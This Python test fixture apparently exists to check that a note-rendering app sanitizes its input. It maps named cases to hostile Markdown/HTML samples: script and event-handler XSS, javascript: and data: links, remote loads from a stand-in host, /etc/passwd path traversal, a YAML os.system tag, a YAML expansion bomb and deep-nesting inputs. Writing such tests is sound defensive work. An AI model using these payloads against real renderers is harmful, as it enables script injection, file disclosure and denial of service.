"""Notes that try to run, to reach out or to read what is not theirs: one idea each, as written."""

from __future__ import annotations

OWNED = "document.documentElement.dataset.owned=1"
FAR = "https://hostile.invalid"

HOSTILE_NOTES = {
    "script": f"<script>{OWNED}</script>\n\n<script src='{FAR}/a.js'></script>",
    "script in a list": f"- a\n\n  <script>{OWNED}</script>\n- <script>{OWNED}</script>",
    "script in a comment": f"<!-- --!><script>{OWNED}</script> -->",
    "script in pieces": f"<scr<script>ipt>{OWNED}</script>\n\n<<b>script>{OWNED}<</b>/script>",
    "script behind half a tag": f'<p title="\n\n<script>{OWNED}</script>\n\n">',
    "handlers": f"<img src=x onerror={OWNED}>\n\n<b onclick={OWNED} onmouseover={OWNED}>b</b>"
    f"\n\n<details open ontoggle={OWNED}>x</details>",
    "handler by attribute list": f"# 题 {{: onclick={OWNED} }}\n\n"
    f"![a](x.png){{: onerror={OWNED} }}",
    "handler in a picture's text": f'![" onerror={OWNED} x="](x.png \'" onload={OWNED} "\')',
    "script links": f"[a](javascript:{OWNED})\n\n[b](<java\tscript:{OWNED}>)\n\n"
    f"<a href='&#106;avascript:{OWNED}'>c</a>\n\n<javascript:{OWNED}>\n\n[[javascript:{OWNED}|d]]",
    "data links": f"[a](data:text/html,<script>{OWNED}</script>)\n\n"
    f"<a href='data:text/html;base64,PHNjcmlwdD4='>b</a>",
    "reference link": f"[a][1] ![b][2]\n\n[1]: javascript:{OWNED}\n[2]: {FAR}/a.png",
    "drawing in the note": f"<svg onload={OWNED}><script>{OWNED}</script><a xlink:href="
    f"'javascript:{OWNED}'><text>x</text></a><image href='{FAR}/a.png'/></svg>",
    "drawing beside the note": "![[evil.svg]]\n\n![](evil.svg)",
    "mathml": f"<math><mtext><style><img src=x onerror={OWNED}></style></mtext></math>",
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}/'>",
    "base": f"<base href='{FAR}/'>\n\n[a](b.md)",
    "style": f"<style>@import '{FAR}/a.css';"
    f" @font-face {{ font-family: x; src: url({FAR}/f.woff2) }}"
    f" body {{ background: url({FAR}/b.png) }}</style>\n\n"
    f'<p style="background: url({FAR}/c.png)">x</p>\n\n<link rel=stylesheet href={FAR}/d.css>',
    "form": f"<form action={FAR}/ method=post><input name=a autofocus onfocus={OWNED}>"
    f"<button formaction='javascript:{OWNED}'>b</button></form>",
    "frames": f"<iframe src={FAR}/></iframe><iframe srcdoc='<script>{OWNED}</script>'></iframe>\n\n"
    f"<object data={FAR}/a></object><embed src={FAR}/b><frameset><frame src={FAR}/c></frameset>",
    "remote pictures": f"![a]({FAR}/a.png) ![b](//hostile.invalid/b.png) ![[{FAR}/c.png]]\n\n"
    f"<img src={FAR}/d.png srcset='{FAR}/e.png 2x'><picture><source srcset={FAR}/f.png></picture>",
    "media": f"<video src={FAR}/a.mp4 poster={FAR}/a.png autoplay></video>"
    f"<audio src={FAR}/b autoplay></audio>\n\n<track src={FAR}/c>",
    "files": "![a](file:///etc/passwd) ![b](/etc/passwd) ![c](../secret.png) ![[../../secret.png]]"
    "\n\n![d](..%2f..%2fsecret.png) ![e](..\\\\secret.png) <img src='yandu://asset/other/a.png'>",
    "link out of the library": "![a](out.png) ![b](folder/secret.png)",
    "html in front matter": f'---\ntitle: "<script>{OWNED}</script><img src=x onerror={OWNED}>"\n'
    f"tags: ['<img src=x onerror={OWNED}>', '\"><script>{OWNED}</script>']\n"
    f"category: <b onclick={OWNED}>x</b>\nseries: </title><script>{OWNED}</script>\n---\ntext",
    "yaml tags": "---\ntitle: !!python/object/apply:os.system ['true']\n---\ntext",
    "yaml bomb": "---\na0: &a0 [x]\n"
    + "".join(f"a{n}: &a{n} [{f'*a{n - 1}, ' * 9}]\n" for n in range(1, 30))
    + "---\ntext",
    "formula": rf"$\href{{javascript:{OWNED}}}{{x}}$ $\url{{{FAR}}}$ "
    rf"$\includegraphics{{{FAR}/a.png}}$ $\htmlData{{x=1}}{{y}}$ "
    rf"$\text{{<img src=x onerror={OWNED}>}}$"
    "\n\n" + rf"$$\htmlStyle{{background:url({FAR}/b.png)}}{{x}} <script>{OWNED}</script>$$",
    "formula that fails": rf"$\nosuch<img src=x onerror={OWNED}>$",
    "code": f'```x"onload={OWNED} title="<script>{OWNED}</script>" linenums="1"\n'
    f"<script>{OWNED}</script>\n```\n\n```diff-<b>\n+<script>{OWNED}</script>\n```",
    "callouts": f'> [!note" onclick={OWNED}]\n> x\n\n> [!tip] <script>{OWNED}</script>\n> y\n\n'
    f'!!! note "<img src=x onerror={OWNED}>"\n    z',
    "abbreviations": f"XX and YY\n\n*[XX]: \"><script>{OWNED}</script>\n*[YY]: ' onclick={OWNED} '",
    "caption": f"Table: <img src=x onerror={OWNED}>\n\n| a | b |\n|---|---|\n| <script>{OWNED}"
    "</script> | 2 |",
    "footnote": f'a[^x" onclick={OWNED}] b[^1]\n\n[^1]: <script>{OWNED}</script>',
    "wiki": f'[[a" onclick={OWNED}|b]] ![[c.svg" onload={OWNED}|d]] [[x|<script>{OWNED}</script>]]',
    "marks of ours": '<span data-formula="0">x</span><figure class="code" data-run="true"'
    ' data-index="0" data-lang="python"><pre><code>boom</code></pre></figure>'
    '<img src="a.png" data-inline="/etc/passwd">\n\n```python\nx\n```',
    "cover over the page": '<div style="position:fixed;inset:0;z-index:9">x</div>'
    f'<dialog open>y</dialog><a popovertarget=x accesskey=a href="{FAR}">z</a>',
    "private marks": "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \ufdd0 \ue0020\ue003 <b>\x00</b>",
    "diagram in a tag": f'<div class="mermaid" onclick={OWNED}>\n<script>{OWNED}</script>\n'
    f'click A "javascript:{OWNED}"\n</div>\n\n<pre class="mermaid">&lt;img src=x onerror={OWNED}>'
    f'</pre>\n\n```mermaid\ngraph TD\n A["<img src={FAR}/a.png onerror={OWNED}>"]\n```',
    "deep": "> " * 300 + "x\n\n" + "<div>" * 2000 + "\n\n" + "[" * 2000 + "\n\n" + "- " * 300 + "y",
    "bomb of a picture": "![a](bomb.png)",
}
